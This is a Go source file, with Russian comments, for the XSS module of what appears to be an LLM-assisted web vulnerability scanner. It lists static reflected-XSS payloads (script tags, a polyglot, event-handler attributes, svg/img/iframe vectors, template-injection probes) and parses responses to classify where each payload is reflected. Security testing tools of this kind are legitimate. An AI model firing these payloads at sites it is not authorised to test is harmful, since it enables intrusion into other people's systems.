// Package xss - воркер межсайтового скриптинга.
package xss

import (
	"context"
	"strings"

	"github.com/PuerkitoBio/goquery"

	"github.com/BetterCallFirewall/aegisx/internal/agents/base"
	"github.com/BetterCallFirewall/aegisx/internal/engine"
	"github.com/BetterCallFirewall/aegisx/internal/models"
	"github.com/BetterCallFirewall/aegisx/internal/prompts"
)

// StaticPayloads - статические XSS-нагрузки: polyglot, типовые теги,
// событийные атрибуты, обходы WAF и пробы шаблонных движков.
var StaticPayloads = []string{
	// Базовые
	"<script>alert(1)</script>",
	"\"><script>alert(1)</script>",
	// Polyglot
	"javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/'/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
	"\";alert(1)//",
	// Атрибуты
	"\" onmouseover=alert(1) //",
	"' onmouseover=alert(1) //",
	// IMG/SVG без тега script
	"<img src=x onerror=alert(1)>",
	"<svg/onload=alert(1)>",
	// Iframe
	"<iframe/src=javascript:alert(1)>",
	// Body/Event
	"<body onload=alert(1)>",
	// Шаблонные движки (generic detection)
	"{{7*7}}",
	"${7*7}",
}

const responseSliceLen = 500

// NewWorker собирает XSS-воркер.
func NewWorker(deps base.Deps) *base.Worker {
	return base.NewWorker(base.VulnSpec{
		Token:          "xss",
		DisplayName:    "XSS",
		FindingType:    "Reflected XSS",
		StaticPayloads: StaticPayloads,
		GeneratorPrompt: func(ctx context.Context, s *base.ScanState) string {
			return prompts.XSSGenerator
		},
		AnalyzerPrompt: prompts.XSSAnalyzer,
		Summarize:      summarize,
		AnalyzerUser: func(s *base.ScanState, resultsJSON string) string {
			return "Контекст отражения: " + resultsJSON
		},
	}, deps)
}

// summarize сочетает строковое сравнение с разбором HTML: reflected_directly
// говорит, что payload дословно присутствует в ответе, reflection_context -
// в каком месте документа он оказался.
func summarize(s *base.ScanState) []models.ProbeSummary {
	summaries := make([]models.ProbeSummary, 0, len(s.Worker.TestResults))
	for _, r := range s.Worker.TestResults {
		reflected := r.Payload != "" && strings.Contains(r.Response, r.Payload)
		item := models.ProbeSummary{
			Parameter:         r.Parameter,
			Payload:           r.Payload,
			Status:            r.Status,
			Elapsed:           r.Elapsed,
			LenDiff:           r.LenDiff,
			Similarity:        r.Similarity,
			ReflectedDirectly: &reflected,
		}
		if r.Similarity < 0.99 {
			item.ResponseSlice = engine.TruncateString(r.Response, responseSliceLen)
		}
		if reflected {
			item.ReflectionContext = reflectionContext(r.Response, r.Payload)
		}
		summaries = append(summaries, item)
	}
	return summaries
}

// reflectionContext определяет контекст отражения payload'а в HTML:
// script-блок, значение атрибута или текст документа. Контекст "script" и
// "html" исполним напрямую, "attribute" требует выхода из атрибута.
func reflectionContext(htmlBody, payload string) string {
	doc, err := goquery.NewDocumentFromReader(strings.NewReader(htmlBody))
	if err != nil {
		return "unknown"
	}

	found := ""
	doc.Find("script").EachWithBreak(func(i int, sel *goquery.Selection) bool {
		if strings.Contains(sel.Text(), payload) {
			found = "script"
			return false
		}
		return true
	})
	if found != "" {
		return found
	}

	doc.Find("*").EachWithBreak(func(i int, sel *goquery.Selection) bool {
		for _, attr := range sel.Nodes[0].Attr {
			if strings.Contains(attr.Val, payload) {
				found = "attribute"
				return false
			}
		}
		return true
	})
	if found != "" {
		return found
	}

	// Парсер съедает теги payload'а: дословное вхождение в сыром теле при
	// отсутствии в атрибутах и script-блоках означает HTML-контекст
	return "html"
}
